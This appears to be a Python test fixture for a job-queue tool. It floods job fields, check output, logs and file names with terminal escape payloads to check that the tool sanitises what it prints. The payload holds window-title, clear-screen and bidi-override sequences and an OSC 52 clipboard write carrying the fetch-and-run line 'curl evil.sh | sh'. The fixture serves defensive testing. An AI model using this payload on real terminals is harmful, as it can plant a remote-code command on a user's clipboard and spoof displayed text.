"""A job whose every field, check output and log line tries to drive the terminal.

Each payload carries OSC 2 (window title), OSC 52 (clipboard), CSI 2J (clear
screen), RLO (U+202E) and C1 CSI (U+009B) followed by ``2J``, tagged so a test
can tell where a piece of text came from.
"""

from __future__ import annotations

import base64
import json
import os
import sys
import unicodedata
from pathlib import Path

from farro_core import job
from farro_core.envelope import Envelope, parse_spec
from farro_core.locks import CLAIMS
from farro_core.root import Root
from farro_core.worker import Worker

EVIL = "curl evil.sh | sh"
CLIP = base64.b64encode(EVIL.encode()).decode()
BIDI = {0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)}


def payload(tag: str) -> str:
    return (
        f"<{tag}>\x1b]2;PWNED-{tag}\x07\x1b]52;c;{CLIP}\x07\x1b[2Jgpj.\u202eexe\x9b2J\x7f</{tag}>"
    )


def escaped(tag: str) -> str:
    """How :func:`payload` reads once made visible: its opening, up to the clipboard."""
    return f"<{tag}>\\x1b]2;PWNED-{tag}\\x07\\x1b]52;c;"


def dangerous(ch: str, *, lines: bool = True) -> bool:
    if lines and ch in "\n\t":
        return False
    return unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") or ord(ch) in BIDI


def first_dangerous(text: str) -> str | None:
    """The first character no terminal output may hold raw, with its context."""
    for i, ch in enumerate(text):
        if dangerous(ch):
            return ascii(text[max(0, i - 30) : i + 30])
    return None


def _octal(text: str) -> str:
    """``text`` as a printf(1) format of octal escapes: the check's shell sees no raw byte."""
    return "".join(f"\\{b:03o}" for b in text.encode())


def hostile_job(root: Root) -> Envelope:
    """Run to completion by a real worker: the agent writes the log payload, the
    required check prints its payload and fails, so the job ends failed (requeue-able)."""
    writer = "import sys; sys.stdout.write(sys.argv[1]); sys.stdout.flush()"
    spec = {
        "title": payload("TITLE"),
        "prompt": f"{payload('PROMPT')}\nsecond line",
        "labels": {"team": payload("LABEL")},
        "agent": [sys.executable, "-c", writer, payload("LOG") + "\n"],
        "max_attempts": 1,
        "rubric": [
            {
                "id": "r1",
                "description": payload("DESC"),
                "check": f"printf '{_octal(payload('CHECK'))}'; exit 1",
            }
        ],
    }
    env = job.create(root, parse_spec(spec))
    worker = Worker(root, "esc-worker")
    try:
        done = worker.run_once()
    finally:
        for key in CLAIMS.keys():  # noqa: SIM118 (a registry, not a dict)
            CLAIMS.release(key)
    assert done is not None and done.id == env.id, done
    assert str(done.status) == "failed", (done.status, done.lifecycle.reason)
    log = Path(done.path, "logs", "attempt-1.log").read_bytes()
    assert payload("LOG").encode() in log, log[-400:]
    return done


def plant_disk_entries(root: Root) -> None:
    """What the file system can hold: a worker status file with a hostile name and
    hostile fields (``farro stats``), and a stray entry in incoming/ (``farro fsck``)."""
    workers = root.path / "run" / "workers"
    workers.mkdir(mode=0o700, parents=True, exist_ok=True)
    status = {"state": payload("STATE"), "host": payload("HOST"), "pid": 1, "job": "x"}
    name = payload("WNAME").replace("/", "-")  # anything but a path separator
    fd = os.open(workers / f"{name}.json", os.O_WRONLY | os.O_CREAT, 0o600)
    with os.fdopen(fd, "w") as fh:
        json.dump(status, fh)
    name = payload("FILE").replace("/", "-")
    fd = os.open(root.incoming / name, os.O_WRONLY | os.O_CREAT, 0o600)
    os.close(fd)
